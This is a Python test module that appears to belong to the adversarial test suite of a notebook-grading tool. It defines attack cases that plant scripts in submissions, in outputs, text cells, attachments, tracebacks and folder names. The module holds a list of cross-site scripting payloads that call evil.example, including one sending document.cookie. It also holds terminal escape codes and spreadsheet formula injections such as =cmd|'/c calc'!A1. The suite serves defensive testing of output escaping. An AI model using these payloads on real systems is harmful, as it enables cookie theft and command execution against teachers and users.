"""Text and pictures that act in a teacher's browser, terminal or spreadsheet instead of being shown."""

from tests.attacks.attack import Attack, code
from tests.attacks.course import FULL, RIGHT

FAMILY = "scripts in what is shown"
HOLDS = "nbconvert and the report escape plain text; the report's tables take the meaning from formulas."

EVIL = "evil.example"
"""The host that every script here calls; no page may mention it where a browser acts on it."""

_MARKUP = f"""
<script>fetch("https://{EVIL}/" + document.cookie)</script>
<img src=x onerror="fetch('https://{EVIL}')">
<svg/onload=fetch("https://{EVIL}")>
<a href="javascript:fetch('https://{EVIL}')">results</a>
<a href="jAvA&#x09;script:fetch('https://{EVIL}')">results</a>
<iframe srcdoc="<script>fetch('https://{EVIL}')</script>"></iframe>
<form action="https://{EVIL}"><input name=password autofocus onfocus="fetch('https://{EVIL}')"></form>
<meta http-equiv="refresh" content="0; url=https://{EVIL}">
<base href="https://{EVIL}/"><link rel=stylesheet href="https://{EVIL}/style.css">
<object data="https://{EVIL}"></object><embed src="https://{EVIL}">
<style>@import url(https://{EVIL});</style>
<div style="background: url(https://{EVIL}/pixel)">x</div>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch('https://{EVIL}')&gt;">
"""

_TEX = f"$\\href{{javascript:fetch('https://{EVIL}')}}{{x}}$ $\\unicode{{<script>fetch('https://{EVIL}')</script>}}$"


def _shown(name: str, tries: str, source: str, **more) -> Attack:
    options = {"honest": FULL, "least": FULL, "stopped_by": ("presentable",), **more}
    return Attack(name=name, tries=tries, cells=RIGHT, extra=(("end", code(source)),), **options)


def _essay(notebook):
    notebook["cells"][-1].source = _MARKUP + "\n\n[click](javascript:fetch('https://evil.example'))\n\n" + _TEX


def _extra_text(notebook):
    cell = dict(notebook["cells"][0])
    notebook["cells"].append({**cell, "id": "own-text", "source": _MARKUP + _TEX})


def _attachment(notebook):
    cell = notebook["cells"][-1]
    cell.source = "![picture](attachment:a.svg) ![other](attachment:b.png)"
    script = '"><script>fetch("https://evil.example")</script>'
    cell.attachments = {"a.svg": {"image/svg+xml": script}, "b.png": {"image/png": script}}


def _given_text(notebook):
    for cell in notebook["cells"]:
        if cell.cell_type == "markdown" and "nbgrader" not in cell.metadata:
            cell.source += _MARKUP + _TEX


ATTACKS = [
    _shown(
        "html-output",
        "Displays HTML with scripts in every place that can hold one.",
        f"""
        from IPython.display import HTML, display

        display(HTML({_MARKUP!r}))
        """,
    ),
    _shown(
        "script-output",
        "Displays JavaScript, widgets and every other kind of output that a front end executes.",
        """
        from IPython.display import display

        script = "fetch('https://evil.example')"
        kinds = ["application/javascript", "text/javascript", "application/vnd.jupyter.widget-view+json", "text/x-evil"]
        for kind in kinds:
            display({kind: script}, raw=True)
        display({"application/vnd.vega.v5+json": {"data": [{"url": "https://evil.example"}]}}, raw=True)
        """,
        stopped_by=(),
    ),
    _shown(
        "svg-output",
        "Displays an SVG picture with a script in it.",
        """
        from IPython.display import SVG, display

        evil = "https://evil.example"
        display(SVG(f'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("{evil}")</script>'
                    f'<image href="{evil}" onload="fetch(\\'{evil}\\')"/></svg>'))
        """,
    ),
    _shown(
        "markdown-and-latex-output",
        "Displays markdown and LaTeX with scripts and links that run.",
        f"""
        from IPython.display import Latex, Markdown, display

        display(Markdown({_MARKUP + _TEX!r}))
        display(Latex({_MARKUP + _TEX!r}))
        """,
    ),
    _shown(
        "picture-that-is-none",
        "Displays a PNG picture whose data ends the attribute that it stands in.",
        """
        from IPython.display import display

        script = '"><script>fetch("https://evil.example")</script>'
        for kind in ("image/png", "image/jpeg"):
            display({kind: script, "text/plain": script}, raw=True, metadata={kind: {"width": script, "alt": script}})
        """,
    ),
    _shown(
        "terminal-and-traceback",
        "Prints and raises markup and terminal codes, with class names that are markup.",
        f"""
        import warnings

        print({_MARKUP!r})
        print("\\x1b[31m<script>fetch('https://evil.example')</script>\\x1b]8;;https://evil.example\\x07")
        warnings.warn({_MARKUP!r})
        raise type("<script>fetch('https://evil.example')</script>", (ValueError,), {{}})({_MARKUP!r})
        """,
        stopped_by=(),
    ),
    Attack(
        name="markup-in-messages",
        tries="Raises markup and spreadsheet formulas when it is tested, from a function whose name is markup.",
        stopped_by=(),
        cells={
            **RIGHT,
            "spread": code(f"""
            def spread(x):
                raise ValueError('=HYPERLINK("https://evil.example","x")' + {_MARKUP!r})


            spread.__name__ = spread.__qualname__ = "<script>fetch('https://evil.example')</script>"
            """),
            "halve": code("""
            class Evil(ValueError):
                pass


            Evil.__name__ = Evil.__qualname__ = "=cmd|'/c calc'!A1<script>fetch('https://evil.example')</script>"


            def halve(x):
                raise Evil("=1+1")
            """),
        },
        honest=FULL - 3,
        least=FULL - 3,
    ),
    Attack(
        name="markup-in-essay",
        tries="Writes scripts into the answer that a teacher reads.",
        stopped_by=("presentable",),
        cells=RIGHT,
        damage=_essay,
        honest=FULL,
        least=FULL,
    ),
    Attack(
        name="markup-in-own-text",
        tries="Adds a text cell of its own with scripts.",
        stopped_by=("presentable",),
        cells=RIGHT,
        damage=_extra_text,
        honest=FULL,
        least=FULL,
    ),
    Attack(
        name="markup-in-given-text",
        tries="Writes scripts into the text cells that were handed out.",
        stopped_by=("presentable",),
        cells=RIGHT,
        damage=_given_text,
        honest=FULL,
        least=FULL,
    ),
    Attack(
        name="markup-in-attachments",
        tries="Attaches pictures to its answer that are scripts.",
        stopped_by=(),
        cells=RIGHT,
        damage=_attachment,
        honest=FULL,
        least=FULL,
    ),
    Attack(
        name="markup-in-folder-name",
        tries="Has a name that is a script.",
        stopped_by=(),
        cells=RIGHT,
        student="<img src=x onerror=fetch('evil.example')>",
        honest=FULL,
    ),
    Attack(
        name="formula-in-folder-name",
        tries="Has a name that a spreadsheet computes and a terminal obeys.",
        stopped_by=(),
        cells=RIGHT,
        student="=cmd|'calc'!A1 \x1b[2J",
        honest=FULL,
    ),
]
